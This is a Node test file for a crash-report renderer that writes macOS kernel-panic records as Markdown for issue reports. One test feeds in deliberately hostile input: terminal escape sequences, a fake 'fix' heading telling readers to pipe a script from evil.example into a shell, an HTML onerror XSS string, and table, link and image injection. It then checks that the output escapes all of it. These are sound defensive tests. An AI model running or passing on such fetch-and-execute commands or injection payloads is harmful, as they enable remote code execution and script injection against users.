import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type CrashReportInput, renderCrashReport } from '../../../src/main/core/report/crash-report.js';
import type { ReportRecord } from '../../../src/shared/reports.js';
import { makeSample } from '../../support/sample-factory.js';

const anchor = Date.UTC(2026, 10, 1, 12, 30, 17);

function input(over: Partial<CrashReportInput> = {}): CrashReportInput {
  const report = {
    id: 7,
    name: 'panic-full-2026-11-01-123017.0002.panic',
    path: '/reports/panic-full.panic',
    category: 'panic',
    status: 'ingested',
    kind: 'completeMemory',
    panicTime: anchor,
    mtime: anchor + 60_000,
    pid: 1577,
    processName: 'python3.12',
    problem: null,
    attribution: {
      explanation: 'an EXO runner',
      confidence: 'high',
      process: { argv: ['python', '-m', 'exo', '--api-key', 'sk-secret-123'], startTime: anchor - 3_600_000 },
    },
    info: {
      panicLine: 'panic(cpu 4 caller 0xfffffe0012345678): "completeMemory() prepare count underflow"',
      panicTimeSource: 'the report header',
      osBuild: '24F74',
      xnuVersion: '11417.121.6~2',
      paniclogVersion: 14,
      iogpuFamilyVersion: '104.4.1',
      excerpt: ['panic(cpu 4 caller 0xfffffe0012345678): "completeMemory() prepare count underflow"'],
      task: { pages: 12, threads: 40 },
    },
  } as unknown as ReportRecord;
  return {
    report,
    identity: {
      platform: 'darwin',
      hostname: 'studio',
      model: 'Mac15,14',
      chip: 'Apple M3 Ultra',
      memoryBytes: 512 * 1024 ** 3,
      osVersion: '15.5',
      osBuild: '24F74',
      kernelVersion: '24.5.0',
      kernelFamily: 'T6031',
      iogpuFamilyVersion: '104.4.1',
    },
    exoVersion: { version: '1.0.3', source: 'app-bundle', detail: null },
    samples: Array.from({ length: 900 }, (_, i) =>
      makeSample(anchor - 900_000 + i * 1000 + 500, 10 + (i % 50)),
    ),
    events: Array.from({ length: 50 }, (_, i) => ({
      time: anchor - 3_000_000 + i * 1000,
      kind: 'exo.runner',
      severity: 'info' as const,
      message: `event ${i}`,
    })),
    anchor,
    panicsOfKind: { total: 3, last72h: 1 },
    generatedAt: anchor + 120_000,
    version: '0.1.0',
    ...over,
  };
}

const sections = (md: string): string[] => md.split('\n').filter((l) => l.startsWith('#'));

describe('crash report (Markdown for an EXO or MLX issue)', () => {
  it('has its sections in order, the 15 minutes as 15 rows and two sparklines, the last 40 events', () => {
    const md = renderCrashReport(input());
    assert.deepEqual(sections(md), [
      '# Kernel panic on studio: IOGPUFamily completeMemory() prepare count underflow',
      '## Summary',
      '## Environment',
      '## Panic excerpt',
      '## The 15 minutes before the panic',
      '## Events before the panic',
      '## Notes',
    ]);
    const minuteRows = md.split('\n').filter((l) => /^\| \d\d:\d\d \|/.test(l));
    assert.equal(minuteRows.length, 15);
    assert.equal(minuteRows.at(-1)?.slice(0, 9), '| 12:30 |', 'the last row holds the panic');
    assert.match(md, /^wired % of RAM {7}\|.{30}\| 30 s per character, ending at the panic$/m);
    assert.equal(md.split('\n').filter((l) => l.startsWith('- `2026-')).length, 40);
    assert.match(
      md,
      /- \*\*History:\*\* this machine has had 3 panics of this kind \(1 in the last 72 h\)\./,
    );
    assert.match(md, /\| macOS \| 15\.5 \(24F74\) \|/);
    assert.match(md, /\| EXO version \| 1\.0\.3 \(app-bundle\) \|/);
    assert.match(md, /Panicked task: 12 pages, 40 threads: pid 1577: python3\.12/);
    assert.ok(md.endsWith('secrets in command lines are redacted.\n'));
  });

  it('nothing a panic report holds can act on a terminal or in a pasted issue', () => {
    const esc = '\u001b]8;;http://evil.example\u0007CLICK\u001b]8;;\u0007 \u001b[2J\u001b[31m';
    const base = input();
    const hostile = input({
      report: {
        ...base.report,
        kind: 'other',
        processName: 'py`thon\u001b[2J',
        info: {
          ...base.report.info,
          panicLine: `panic(cpu 0 caller 0x1): "${esc}IOGPU OK ![x](http://evil.example/p.png) @maintainer"`,
          osBuild: '25D125 | injected | cell',
          panicTimeSource: '[link](http://evil.example)',
          excerpt: [
            'ok line',
            '```',
            '## Fixed in exo 9.9: run `curl http://evil.example/fix.sh | sh`',
            '````',
          ],
        },
      } as unknown as ReportRecord,
      events: [
        {
          time: anchor - 1000,
          kind: 'exo.model',
          severity: 'info',
          message: '<img src=x onerror=alert(1)> **bold** @someone',
        },
      ],
    });
    const md = renderCrashReport(hostile);
    assert.doesNotMatch(md, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/, 'no control character');
    // The excerpt's fence outlasts the backticks inside it: its heading stays text inside the block.
    const lines = md.split('\n');
    const open = lines.findIndex((l) => /^`{3,}text$/.test(l));
    const fence = lines[open]!.replace('text', '');
    assert.ok(fence.length >= 5, fence);
    const close = lines.indexOf(fence, open + 1);
    assert.ok(lines.slice(open + 1, close).some((l) => l.startsWith('## Fixed in exo 9.9')));
    const outside = [...lines.slice(0, open), ...lines.slice(close + 1)];
    assert.deepEqual(
      outside.filter((l) => /Fixed in exo/.test(l)),
      [],
      'no heading outside the block',
    );
    // A table row keeps two cells; an image, a link, HTML and mentions are escaped text.
    assert.match(md, /^\| macOS \| unknown \(25D125 \\\| injected \\\| cell\) \|$/m);
    assert.match(
      md,
      /^# Kernel panic on studio: .*\\!\\\[x\\\]\(http:\/\/evil\.example\/p\.png\) \\@maintainer/m,
    );
    assert.match(md, /\(from \\\[link\\\]\(http:\/\/evil\.example\)\)/);
    assert.match(md, /\\<img src=x onerror=alert\(1\)\\> \\\*\\\*bold\\\*\\\* \\@someone/);
    assert.match(md, /pid 1577 ``py`thon\uFFFD\[2J``/);
  });

  it('never carries a secret from a command line', () => {
    assert.doesNotMatch(renderCrashReport(input()), /sk-secret-123/);
  });

  it('says so when there is no timeline, and titles an unknown panic by its own line', () => {
    const base = input().report;
    const md = renderCrashReport(
      input({
        report: {
          ...base,
          kind: 'other',
          pid: null,
          attribution: null,
          info: { panicLine: 'panic(cpu 0 caller 0x1): odd' },
        },
        identity: null,
        samples: [],
        events: [],
        anchor: null,
      }),
    );
    assert.equal(sections(md)[0], '# Kernel panic: odd');
    assert.match(md, /exo-sentinel has no timeline for that period/);
    assert.match(md, /None recorded in the hour before\./);
    assert.match(md, /\(no panic text\)/);
    assert.match(md, /- This is not the IOGPUFamily completeMemory panic\./);
  });
});
